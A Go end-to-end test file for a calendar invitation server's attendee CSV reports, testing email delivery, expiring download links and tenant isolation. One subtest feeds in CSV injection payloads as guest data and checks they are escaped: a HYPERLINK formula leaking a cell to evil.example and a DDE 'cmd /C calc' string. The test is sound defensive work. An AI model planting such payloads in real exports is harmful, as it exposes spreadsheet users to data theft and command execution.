package e2e

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/calendarinvite/calendarinviteserver/internal/imip/imiptest"
	"github.com/calendarinvite/calendarinviteserver/internal/seal"
)

// report asks for an event's attendee report and returns the mail that brings it, and its rows by address, with the header under "".
func (s *system) report(uid, organizer string) (mail []byte, rows map[string]map[string]string) {
	s.t.Helper()
	before := s.sentTo(organizer)
	a := s.Get("/event/" + uid + "/report")
	if a.Status != 200 || a.Body != `{"message":"Acknowledged"}` {
		s.t.Fatalf("%d %s", a.Status, a.Body)
	}
	sent := s.WaitSent(organizer, before+1)
	mail = sent[len(sent)-1].Raw
	var file []byte
	for _, part := range read(s.t, mail).Parts {
		if part.Filename == "attendees.csv" {
			file = part.Body
			if part.Disposition != "attachment" || part.Type != "text/csv" {
				s.t.Errorf("the file is %s %s", part.Disposition, part.Type)
			}
		}
	}
	text, marked := bytes.CutPrefix(file, []byte("\xef\xbb\xbf"))
	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil || !marked || len(lines) == 0 {
		s.t.Fatalf("the file is no CSV that Excel reads as UTF-8: %v: %q", err, file)
	}
	if first := lines[0][:5]; !slices.Equal(first, []string{"email", "name", "status", "origin", "prodid"}) {
		s.t.Errorf("the columns begin with %v", first)
	}
	rows = map[string]map[string]string{}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = line[i]
		}
		rows[row["email"]] = row
	}
	return mail, rows
}

func TestReports(t *testing.T) {
	s := start(t)

	t.Run("what everybody answered", func(t *testing.T) {
		s := s.on(t)
		organizer := somebody("ada")
		uid := s.register(tea(organizer))
		yes, no, silent := somebody("yes"), somebody("no"), somebody("silent")
		for _, c := range []struct {
			who    imiptest.Address
			client imiptest.Client
			word   string
		}{{yes, imiptest.Gmail, imiptest.Accepted}, {no, imiptest.Outlook, imiptest.Declined}} {
			s.reply(s.invite(uid, c.who), c.who.Email, imiptest.Reply{Client: c.client, Answer: c.word, At: time.Now(), Comment: "See you, dear; or not"})
		}
		s.invite(uid, silent)
		mail, rows := s.report(uid, organizer.Email)
		if len(rows) != 3 {
			t.Fatalf("%d rows", len(rows))
		}
		for who, want := range map[imiptest.Address]string{yes: "accepted", no: "declined", silent: "noaction"} {
			row := rows[who.Email]
			if row["status"] != want || row["name"] != who.Name || row["origin"] != "api" || (row["prodid"] == "") != (want == "noaction") {
				t.Errorf("%s: %v", who.Email, row)
			}
			if want != "noaction" && row["comment"] != "See you, dear; or not" {
				t.Errorf("the comment of %s is %q", who.Email, row["comment"])
			}
		}
		message := read(t, mail)
		text := string(message.Parts[0].Body)
		if message.Auto.Submitted != "auto-generated" || !strings.Contains(text, "Tea") || !strings.Contains(text, uid) {
			t.Errorf("Auto-Submitted %q: %s", message.Auto.Submitted, text)
		}
	})

	t.Run("nobody is invited yet", func(t *testing.T) {
		s := s.on(t)
		organizer := somebody("ada")
		if _, rows := s.report(s.register(tea(organizer)), organizer.Email); len(rows) != 0 {
			t.Errorf("%v", rows)
		}
	})

	// A spreadsheet runs what begins with one of = + - @. https://owasp.org/www-community/attacks/CSV_Injection
	t.Run("formulas of guests are text", func(t *testing.T) {
		s := s.on(t)
		organizer, guest := somebody("ada"), somebody("mallory")
		uid := s.register(tea(organizer))
		const formula = `=HYPERLINK("https://evil.example/?"&A1;"Click")`
		guest.Name = formula
		s.reply(s.invite(uid, guest), guest.Email, imiptest.Reply{Client: imiptest.Gmail, Answer: imiptest.Accepted, At: time.Now(), Comment: "@SUM(1+1)*cmd|' /C calc'!A0"})
		plus := imiptest.Address{Name: "-2+3", Email: "+1" + somebody("plus").Email}
		s.invite(uid, plus)
		_, rows := s.report(uid, organizer.Email)
		if len(rows) != 2 {
			t.Errorf("%v", rows)
		}
		for _, row := range rows {
			for column, cell := range row {
				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "-") {
					t.Errorf("%s is %q", column, cell)
				}
			}
		}
		if row := rows[guest.Email]; row["name"] != "'"+formula || row["comment"] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
			t.Errorf("name %q, comment %q", row["name"], row["comment"])
		}
	})

	t.Run("only of an event that there is", func(t *testing.T) {
		s := s.on(t)
		for _, uid := range []string{strings.Repeat("z", 40), "..", "%00", strings.Repeat("a", 400)} {
			if a := s.Get("/event/" + uid + "/report"); a.Status != 404 {
				t.Errorf("%s: %d %s", uid, a.Status, a.Body)
			}
		}
	})

	t.Run("asked for twice, mailed twice", func(t *testing.T) {
		s := s.on(t)
		organizer := somebody("ada")
		uid := s.register(tea(organizer))
		s.report(uid, organizer.Email)
		s.report(uid, organizer.Email)
		if n := s.sentTo(organizer.Email); n != 3 {
			t.Errorf("%d mails", n)
		}
	})
}

// A report of more than 5 MB does not fit a mail: it is fetched by a link, which expires, from an address that expires at once.
func TestLargeReport(t *testing.T) {
	s := start(t)
	p := &party{system: s, event: tea(somebody("ada"))}
	organizer := p.event.Organizer
	p.uid = p.register(p.event)
	const guests = 2600
	p.crowd(guests)
	s.get("/event/"+p.uid+"/report", new(struct{}))
	mail := s.WaitSent(organizer.Email, 2)[1].Raw
	message := read(t, mail)
	for _, part := range message.Parts {
		if part.Disposition == "attachment" {
			t.Errorf("%s of %d bytes is attached", part.Filename, len(part.Body))
		}
	}
	link, now := linkIn(t, mail, "/download/"), time.Now().UTC()
	if text := string(message.Parts[0].Body); !strings.Contains(text, "2,600 in all") || !strings.Contains(text, now.AddDate(0, 0, 7).Format("2 January 2006")) {
		t.Errorf("the mail says %s", text)
	}
	file := s.downloads(link)
	lines, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(file, "\ufeff"))).ReadAll()
	if err != nil || len(lines) != guests+1 || len(file) <= 5<<20 {
		t.Errorf("%d lines of %d bytes: %v", len(lines), len(file), err)
	}
	if a := s.Do("GET", link, ""); !strings.Contains(a.Header.Get("Location"), "X-Amz-Expires=300&") {
		t.Errorf("%d to %s", a.Status, a.Header.Get("Location"))
	}
	key := "reports/attendees/any.csv"
	for name, c := range map[string]struct {
		path   string
		status int
	}{
		"expired":         {"/download/" + s.keys().Link(seal.Link{Purpose: seal.Download, Extra: key, Expires: now.Add(-time.Second).Unix()}), 410},
		"forged":          {forge(link), 404},
		"of another kind": {"/download/" + s.keys().Link(seal.Link{Purpose: seal.Guests, UID: p.uid, Email: organizer.Email, Extra: key}), 404},
	} {
		if a := s.Do("GET", c.path, ""); a.Status != c.status || !strings.Contains(a.Body, "</html>") {
			t.Errorf("%s: %d %.200s", name, a.Status, a.Body)
		}
	}
}

// A report belongs to its tenant's keys.
func TestReportsOfAnotherTenant(t *testing.T) {
	s := start(t, withAcme)
	organizer := somebody("ada")
	uid := s.register(tea(organizer))
	before := s.sentTo(organizer.Email)
	for _, key := range []string{acmeKey, acmeAdminKey} {
		if a := s.Do("GET", "/event/"+uid+"/report", "", "x-api-key", key); a.Status != 404 {
			t.Errorf("%s: %d %s", key, a.Status, a.Body)
		}
	}
	if s.settle(); s.sentTo(organizer.Email) != before {
		t.Errorf("%d mails", s.sentTo(organizer.Email)-before)
	}
}

// downloads fetches a report by its link, and returns it.
func (s *system) downloads(link string) string {
	s.t.Helper()
	a := s.Do("GET", link, "")
	target := a.Header.Get("Location")
	path, found := strings.CutPrefix(target, "http://"+s.AWS)
	if a.Status != 302 || !found {
		s.t.Fatalf("%d to %q: %s", a.Status, target, a.Body)
	}
	file, err := http.Get("http://" + s.AWS + path)
	if err != nil {
		s.t.Fatal(err)
	}
	defer file.Body.Close()
	text, err := io.ReadAll(file.Body)
	if err != nil || file.StatusCode != 200 || !strings.Contains(file.Header.Get("Content-Disposition"), ".csv") {
		s.t.Fatalf("%s, %q, %v: %.200s", file.Status, file.Header.Get("Content-Disposition"), err, text)
	}
	return string(text)
}
